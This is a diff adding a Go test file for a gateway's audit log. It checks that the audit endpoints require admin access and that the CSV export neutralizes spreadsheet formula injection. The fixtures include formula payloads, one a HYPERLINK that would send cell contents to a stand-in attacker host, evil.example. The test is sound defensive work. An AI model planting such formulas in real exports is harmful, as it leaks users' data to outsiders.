@@ -0,0 +1,58 @@
+package auth
+
+import (
+	"encoding/csv"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"go-gerbang/e2e/helpers"
+	"go-gerbang/models"
+	"go-gerbang/services"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestAuditEventsRequireAdmin(t *testing.T) {
+	client := helpers.NewClient()
+
+	for _, path := range []string{"/audit/events", "/audit/events/export?format=csv"} {
+		req, _ := http.NewRequest(http.MethodGet, helpers.BaseURL()+path, nil)
+		resp, err := client.Do(req)
+		assert.NoError(t, err)
+		assert.Equal(t, http.StatusUnauthorized, resp.StatusCode, path)
+		resp.Body.Close()
+	}
+}
+
+func TestAuditEventRecordNeutralizesFormulas(t *testing.T) {
+	event := &models.AuditEvent{
+		ID:         7,
+		ActorName:  "+62812",
+		Action:     "user.create",
+		TargetType: "user",
+		Target:     "@SUM(A1:A9)",
+		Ip:         "127.0.0.1",
+		UserAgent:  `=HYPERLINK("https://evil.example/?d="&A1,"open")`,
+		After:      []byte(`{"note":"-1"}`),
+		Timestamp:  time.Now(),
+	}
+
+	var buffer strings.Builder
+	writer := csv.NewWriter(&buffer)
+	require.NoError(t, writer.Write(services.AuditEventRecord(event)))
+	writer.Flush()
+
+	record, err := csv.NewReader(strings.NewReader(buffer.String())).Read()
+	require.NoError(t, err)
+
+	assert.Equal(t, "7", record[0])
+	assert.Equal(t, "'+62812", record[3])
+	assert.Equal(t, "user.create", record[4])
+	assert.Equal(t, "'@SUM(A1:A9)", record[6])
+	assert.Equal(t, "127.0.0.1", record[7])
+	assert.Equal(t, `'=HYPERLINK("https://evil.example/?d="&A1,"open")`, record[9])
+	assert.Equal(t, `{"note":"-1"}`, record[11])
+}